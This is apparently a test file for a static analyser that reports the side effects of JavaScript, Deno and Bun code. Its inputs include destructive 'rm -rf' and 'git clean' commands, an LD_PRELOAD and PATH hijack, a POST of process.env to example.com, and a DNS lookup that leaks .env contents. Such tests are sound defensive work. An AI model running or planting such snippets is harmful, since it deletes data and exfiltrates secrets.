import { describe, expect, test } from "vitest";
import type { Language } from "../../../src/core/code/codeTree.ts";
import { readJavaScript } from "../../../src/core/code/javascript.ts";
import { parsed, spelledDeeds } from "./spelledDeeds.ts";

type Row = [code: string, deeds: readonly string[], language?: Language];

async function check([code, deeds, language = "javascript"]: Row): Promise<void> {
  expect(spelledDeeds(readJavaScript(await parsed(language, code), "."))).toEqual(deeds);
}

describe("JavaScript: programs", () => {
  test.each<Row>([
    ["const { execSync } = require('child_process'); execSync('rm -rf src')", ["shell: rm -rf src"]],
    [
      "const { execSync } = require('child_process'); console.log(execSync('git status').toString())",
      ["shell: git status"],
    ],
    [
      "require('child_process').exec('ls ' + dir, (error, out) => console.log(out)); const dir = 'src'",
      ["shell: ls src"],
    ],
    ["require('child_process').spawn('rm', ['-rf', ...process.argv.slice(2)])", ["run rm -rf <anywhere>"]],
    [
      "require('child_process').spawnSync('git', ['log', '-1'], { cwd: '/tmp', stdio: 'inherit' })",
      ["run git log -1 in /tmp"],
    ],
    ["require('child_process').spawn('rm -rf src', { shell: true })", ["shell: rm -rf src"]],
    [
      "require('child_process').execSync('Remove-Item src', { shell: 'powershell.exe' })",
      ["powershell: Remove-Item src"],
    ],
    ["require('child_process').execFile('ls', ['-la'], { shell: false }, () => {})", ["run ls -la"]],
    ["require('child_process').fork('./worker.js', ['x'])", ["run node ./worker.js x"]],
    [
      "require('child_process').spawn('ls', [], { env: { ...process.env, LD_PRELOAD: './x.so' } })",
      ["opaque", "run ls"],
    ],
    ["require('child_process').spawn('ls', [], { env: { ...process.env, FORCE_COLOR: '1' } })", ["run ls"]],
    [
      "process.env.PATH = './bin:' + process.env.PATH; require('child_process').exec('ls')",
      ["environment PATH", "opaque", "shell: ls"],
    ],
    ["process.env.NODE_ENV = 'production'; require('child_process').exec('ls')", ["shell: ls"]],
    ["import { $ } from 'zx'; await $`rm -rf \u0024{'src'}`", ["shell: rm -rf src"]],
    [
      "import { execa } from 'execa'; await execa('npm', ['run', 'build']); await execa`rm -rf \u0024{target}`; const target = 'src'",
      ["run npm run build", "shell: rm -rf src"],
    ],
    [
      "const shell = require('shelljs'); shell.rm('-rf', 'dist'); shell.exec('git clean -fd')",
      ["run rm -rf dist", "shell: git clean -fd"],
    ],
    ["const shell = require('shelljs'); console.log(shell.pwd(), shell.which('git'))", []],
    ["process.kill(4242, 'SIGKILL')", ["run kill -KILL 4242"]],
    ["process.on('SIGINT', () => process.exit(1))", []],
    ["new Worker(new URL('./w.js', import.meta.url)); require('cluster').fork()", ["load ./w.js"]],
    [
      "new (require('worker_threads').Worker)(\"require('fs').rmSync('src')\", { eval: true })",
      ["code javascript: require('fs').rmSync('src')"],
    ],
  ])("%s", async (...row) => check(row));
});

describe("JavaScript: network", () => {
  test.each<Row>([
    ["fetch('https://example.com/a').then((r) => r.json()).then(console.log)", ["fetch https://example.com/a"]],
    [
      "fetch('https://example.com/a', { method: 'POST', body: JSON.stringify(process.env) })",
      ["environment ?", "send https://example.com/a"],
    ],
    ["const r = await fetch('https://example.com/a', { method: 'DELETE' })", ["send https://example.com/a"]],
    [
      "require('https').get('https://example.com', (r) => r.on('data', (d) => process.stdout.write(d)))",
      ["fetch https://example.com"],
    ],
    [
      "require('http').request({ hostname: 'example.com', path: '/a', method: 'PUT' }).end('x')",
      ["send https://example.com/"],
    ],
    ["require('http').createServer((q, a) => a.end('ok')).listen(3000)", []],
    ["require('net').connect(4444, 'example.com').write('x')", ["send tcp://example.com:4444"]],
    [
      "require('axios').get('https://example.com'); require('axios').post('https://example.com', { a: 1 })",
      ["fetch https://example.com", "send https://example.com"],
    ],
    ["new WebSocket('wss://example.com').send('x')", ["send wss://example.com"]],
    ["require('dns').lookup('example.com', console.log)", ["fetch example.com"]],
    [
      "require('dns').lookup(secret + '.example.com', () => {}); const secret = require('fs').readFileSync('.env', 'utf8')",
      ["send <anywhere>", "read none .env"],
    ],
  ])("%s", async (...row) => check(row));
});

describe("JavaScript: code", () => {
  test.each<Row>([
    ["eval(\"require('fs').rmSync('src')\")", ["code javascript: require('fs').rmSync('src')"]],
    ["eval(process.argv[1])", ["opaque"]],
    ["new Function('return 1 + 1')", ["code javascript: return 1 + 1"]],
    ["require('vm').runInNewContext('1 + 1')", ["code javascript: 1 + 1"]],
    ["setTimeout(\"require('fs').rmSync('src')\", 10)", ["code javascript: require('fs').rmSync('src')"]],
    ["setTimeout(() => console.log('later'), 10)", []],
    ["require('./lib/clean.js'); import('./more.mjs')", ["load ./lib/clean.js", "load ./more.mjs"]],
    ["const data = require('./data.json'); console.log(Object.keys(data).length)", ["read none ./data.json"]],
    ["require('./build/addon.node')", ["opaque"]],
    ["require('some-package-nobody-knows')", ["opaque"]],
    [
      "const _ = require('lodash'); const ts = require('typescript'); console.log(_.chunk([1, 2, 3], 2), ts.version)",
      [],
    ],
    ["import('https://example.com/x.js')", ["fetch https://example.com/x.js", "opaque"]],
    ["module.exports = { a: 1, run(p) { return p + 1 } }", []],
    ["module.exports = { wipe: require('fs').rmSync }", ["opaque"]],
  ])("%s", async (...row) => check(row));
});

describe("JavaScript: deno and bun", () => {
  test.each<Row>([
    [
      "Deno.removeSync('src', { recursive: true }); await Deno.writeTextFile('a', 'b', { append: true })",
      ["delete content src/**", "modify none a"],
    ],
    ["console.log(await Deno.readTextFile('a'), Deno.args.length, Deno.version.deno)", ["read none a"]],
    ["await new Deno.Command('rm', { args: ['-rf', 'src'] }).output()", ["run rm -rf src"]],
    ["Deno.serve(() => new Response('ok')); console.log(Deno.env.get('HOME'))", ["environment HOME"]],
    [
      "await Bun.write('a', 'b'); Bun.spawn(['rm', '-rf', 'src']); await Bun.$`rm -rf src`",
      ["modify content a", "run rm -rf src", "shell: rm -rf src"],
    ],
    ["console.log(await Bun.file('a').text(), Bun.env.TOKEN, Bun.version)", ["read none a", "environment TOKEN"]],
  ])("%s", async (...row) => check(row));
});
